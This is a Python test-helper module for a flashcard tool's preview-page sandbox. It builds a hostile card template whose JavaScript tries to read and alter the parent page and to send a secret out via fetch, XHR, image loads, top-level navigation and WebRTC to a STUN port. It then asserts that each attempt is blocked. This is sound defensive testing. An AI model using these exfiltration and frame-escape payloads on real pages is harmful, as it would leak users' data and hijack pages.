"""A hostile note type for the preview page's sandbox tests (a basic note type whose card
script tries everything a card must not do on the page, and writes what came of each try
into its own side), and what those tests watch: a tab's requests, a UDP port.

It reaches a deck as an imported note type does, through the note types file that
``deckbuilder import`` writes beside a card file (``<stem>.notetypes.json``; see
deckbuilder/anki/notetypes/carried.py), with ``"keep_scripts": true``, the key a note
type carrying scripts there is to have.

The front's script, and again an ``<img src=x onerror=...>`` on it, each try to:
read ``parent.document``, change ``top.document``; ``fetch``, ``XMLHttpRequest``, an
``<img>`` and ``new Image()`` of each target address; ``top.location = ...``; a WebRTC
peer connection to a STUN server (directly, and through the constructors of a frame made
inside the card). Each try is an ``<li data-try="...">`` in ``#report``, its text what
came of it: ``blocked: ...``, or what the card got. The script also sends the page forged
messages: an absurd height for its own frame, and night mode to every other frame. The
back shows the front (``{{FrontSide}}``), then takes its own frame to ``navigate_to``.
"""

from __future__ import annotations

import contextlib
import json
import socket
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

__all__ = [
    "MAX_HEIGHT",
    "TRIES_PER_TARGET",
    "Recorded",
    "assert_contained",
    "hostile_deck",
    "received",
    "report",
    "stun_server",
    "tries",
]

MAX_HEIGHT = 30000  # CSS pixels: the tallest a side's frame is made (page.js)

NOTE_TYPE_ID = 1_700_000_000_045
SECRET = "the-secret-answer"

# Each of these is tried once by the script and once by the image's onerror, as
# "<who> <what>", and each of TRIES_PER_TARGET once per target, "<who> <what> <target>".
_TRIES = ("parent.document", "top.document", "top.location", "RTCPeerConnection",
          "RTCPeerConnection of a child frame")  # fmt: skip
TRIES_PER_TARGET = ("fetch", "XMLHttpRequest", "img", "new Image")
_WHO = ("script", "onerror")

_SCRIPT = """
<script>
(function () {
  var TARGETS = %(targets)s, TOP = %(top)s, STUN = %(stun)s;
  var report = document.getElementById("report");
  var secret = document.getElementById("secret").textContent;
  function say(what, outcome) {
    var item = document.createElement("li");
    item.setAttribute("data-try", what);
    item.textContent = outcome;
    report.appendChild(item);
  }
  /* What ``act`` returns is said at once; a request says what it got when it has. */
  function attempt(what, act) {
    try {
      var got = act();
      if (got !== undefined) { say(what, got); }
    } catch (e) { say(what, "blocked: " + e.name); }
  }
  function peer(Connection) {
    var pc = new Connection({ iceServers: [{ urls: STUN }] });
    pc.createDataChannel(secret);
    pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
    return "made a peer connection to " + STUN;
  }
  window.hostile = function (who) {
    attempt(who + " parent.document", function () { return "read " + parent.document.title; });
    attempt(who + " top.document", function () {
      top.document.body.insertAdjacentHTML("beforeend", "<p id='pwned'>PWNED " + secret + "</p>");
      return "changed it";
    });
    TARGETS.forEach(function (url) {
      var address = url + (url.indexOf("?") < 0 ? "?" : "&") + "stolen=" + secret;
      var name = who + " fetch " + url;
      attempt(name, function () {
        fetch(address).then(function (r) { return r.text(); }).then(
          function (text) { say(name, "read " + text.length + " characters"); },
          function (e) { say(name, "blocked: " + e.name); });
      });
      var xhrName = who + " XMLHttpRequest " + url;
      attempt(xhrName, function () {
        var xhr = new XMLHttpRequest();
        xhr.onload = function () { say(xhrName, "read " + xhr.responseText.length + " characters"); };
        xhr.onerror = function () { say(xhrName, "blocked: error"); };
        xhr.open("GET", address);
        xhr.send();
      });
      [["img", function () { return document.body.appendChild(document.createElement("img")); }],
       ["new Image", function () { return new Image(); }]].forEach(function (kind) {
        var imgName = who + " " + kind[0] + " " + url;
        attempt(imgName, function () {
          var img = kind[1]();
          img.onload = function () { say(imgName, "loaded"); };
          img.onerror = function () { say(imgName, "blocked: error"); };
          img.src = address;
        });
      });
    });
    attempt(who + " top.location", function () {
      top.location = TOP + "?stolen=" + secret;
      return "navigated the page";
    });
    attempt(who + " RTCPeerConnection", function () { return peer(RTCPeerConnection); });
    attempt(who + " RTCPeerConnection of a child frame", function () {
      var child = document.body.appendChild(document.createElement("iframe"));
      return peer(child.contentWindow.RTCPeerConnection);
    });
  };
  hostile("script");
  /* Forged messages: an absurd height for this frame, night mode for every other. */
  var own = document.querySelector("script[data-pv]");
  var number = own ? JSON.parse(own.getAttribute("data-pv")).pv : 0;
  parent.postMessage({ type: "height", value: 1e9, pv: number }, "*");
  for (var i = 0; i < parent.frames.length; i += 1) {
    parent.frames[i].postMessage({ type: "night", on: true }, "*");
  }
})();
</script>
"""

_FRONT = (
    '<div id="secret">{{Front}}</div>\n<ol id="report"></ol>\n%(script)s'
    '<img src="x" alt="" onerror="hostile(\'onerror\')">\n'
)
_BACK = """{{FrontSide}}
<hr id="answer">
{{Back}}
<script>
setTimeout(function () { location.href = %(navigate)s + "?stolen=back"; }, 0);
</script>
"""


def tries(targets: Sequence[str]) -> list[str]:
    """Every try the front's report is to show (a request's, once it is answered)."""
    out = []
    for who in _WHO:
        out += [f"{who} {what}" for what in _TRIES]
        out += [f"{who} {what} {url}" for url in targets for what in TRIES_PER_TARGET]
    return out


def hostile_deck(
    cards: Path, key: str, targets: Sequence[str], top: str, navigate_to: str, stun_port: int
) -> Path:
    """A card file ``cards/<key>.yaml`` of two notes of the hostile note type and a cloze
    of deckbuilder's own (a bystander), with the hostile type in its note types file."""
    cards.mkdir(parents=True, exist_ok=True)
    source = cards / f"{key}.yaml"
    source.write_text(
        f"deck: Hostile {key}\nid: {key}\nnotes:\n"
        f"  - id: probe\n    front: {SECRET}\n    back: Nothing to see.\n"
        "  - id: bystander\n    text: A {{c1::bystander}} cloze.\n"
        f"  - id: probe2\n    front: {SECRET} again\n    back: Nothing.\n",
        encoding="utf-8",
    )
    script = _SCRIPT % {
        "targets": json.dumps(list(targets)),
        "top": json.dumps(top),
        "stun": json.dumps(f"stun:127.0.0.1:{stun_port}"),
    }
    entry: dict[str, Any] = {
        "kind": "basic",
        "id": NOTE_TYPE_ID,
        "name": "Hostile",
        "fields": ["Front", "Back"],
        "templates": [
            {
                "name": "Card 1",
                "front": _FRONT % {"script": script},
                "back": _BACK % {"navigate": json.dumps(navigate_to)},
            }
        ],
        "css": ".card { font-family: sans-serif; }",
        "keep_scripts": True,
    }
    (cards / f"{key}.notetypes.json").write_text(
        json.dumps({"note_types": [entry]}, indent=2), encoding="utf-8"
    )
    return source


def report(frame: Any, expected: Sequence[str], timeout: float = 10_000) -> dict[str, str]:
    """What each try came to, read from a hostile front's ``#report`` (Playwright frame
    or frame locator) once every try in ``expected`` is there."""
    items = frame.locator("#report li")
    for what in expected:
        frame.locator(f'#report li[data-try="{what}"]').wait_for(state="attached", timeout=timeout)
    got: dict[str, str] = {}
    for i in range(items.count()):
        item = items.nth(i)
        got[str(item.get_attribute("data-try"))] = item.inner_text()
    return got


# -- what a test watches ------------------------------------------------------------


def stun_server() -> socket.socket:
    """A UDP port standing for a STUN server: what a peer connection would reach."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(0.1)
    return server


def received(server: socket.socket, seconds: float) -> list[bytes]:
    """The datagrams ``server`` receives within ``seconds``."""
    got = []
    for _ in range(int(seconds / 0.1)):  # the socket waits 0.1 s for each
        with contextlib.suppress(TimeoutError):
            got.append(server.recv(2048))
    return got


class Recorded:
    """A tab on the page, and every request anything in it makes: those that reached the
    network (``routed``: the test's route sees them; any but ``allowed`` refused there,
    never sent), those answered (``finished``), and those Chromium refused before they
    left (``failed``, with its reason: "csp" for the Content-Security-Policy). Also its
    uncaught errors."""

    def __init__(self, browser: Any, url: str, allowed: Callable[[str], bool]) -> None:
        self.context = browser.new_context(viewport={"width": 1000, "height": 900})
        self.allowed = allowed
        self.routed: list[str] = []
        self.finished: list[str] = []
        self.failed: list[tuple[str, str]] = []
        self.errors: list[str] = []
        self.context.on("requestfinished", lambda r: self.finished.append(r.url))
        self.context.on("requestfailed", lambda r: self.failed.append((r.url, r.failure)))
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.goto(url, wait_until="load")

    def _route(self, route: Any) -> None:
        self.routed.append(route.request.url)
        if self.allowed(route.request.url):
            route.continue_()
        else:
            route.abort("blockedbyclient")

    def close(self) -> None:
        self.context.close()


def assert_contained(tab: Recorded, targets: Sequence[str], stun: socket.socket) -> None:
    """What a page showing the hostile deck must hold to once every side has loaded: each
    of the probe's tries blocked, as its front says; no peer connection reached ``stun``;
    the page as it was (its title, nothing added to it); the forged messages without
    effect beyond the probe's own frame (its height within bounds; no other card, nor the
    page, in night mode); no side taken to another address, and no uncaught error."""
    page = tab.page
    title = page.title()
    probe = page.locator('.pv-card[data-note="probe"] .front iframe')
    got = report(probe.content_frame, tries(targets))
    assert {what: how for what, how in got.items() if not how.startswith("blocked")} == {}
    page.wait_for_timeout(500)  # the back's own navigation, a moment after it loaded
    assert received(stun, 1.0) == []
    assert page.title() == title
    assert page.locator("#pwned").count() == 0
    assert "PWNED" not in page.inner_text("body")
    assert probe.evaluate("f => parseFloat(f.style.height)") <= MAX_HEIGHT
    assert page.get_attribute("body", "class") in (None, "")
    bystander = page.locator('.pv-card[data-note="bystander"] .side iframe')
    assert bystander.count() == 2
    for i in range(bystander.count()):
        body = bystander.nth(i).content_frame.locator("body")
        assert "nightMode" not in (body.get_attribute("class") or "")
    elsewhere = [
        f.url for f in page.frames[1:] if not f.url.startswith(("about:", "chrome-error:"))
    ]
    assert elsewhere == []
    assert tab.errors == []
